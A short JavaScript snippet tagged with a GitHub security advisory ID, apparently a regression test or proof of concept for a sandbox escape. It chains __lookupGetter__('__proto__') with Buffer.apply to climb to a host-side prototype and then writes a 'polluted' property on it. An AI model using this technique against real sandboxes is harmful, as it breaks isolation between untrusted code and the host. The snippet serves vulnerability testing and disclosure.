// GHSA-vwrp-x96c-mhwq
// __lookupGetter__ with Buffer.apply walks to a prototype of the host.
try {
    const walk = Buffer.apply, get = ({}).__lookupGetter__('__proto__');
    let object = Buffer;
    for (let step = 0; step < 4; ++step) { object = walk.apply(get, [object, []]); await useObject(object); }
    object.polluted = 1;
} catch {}
return found;
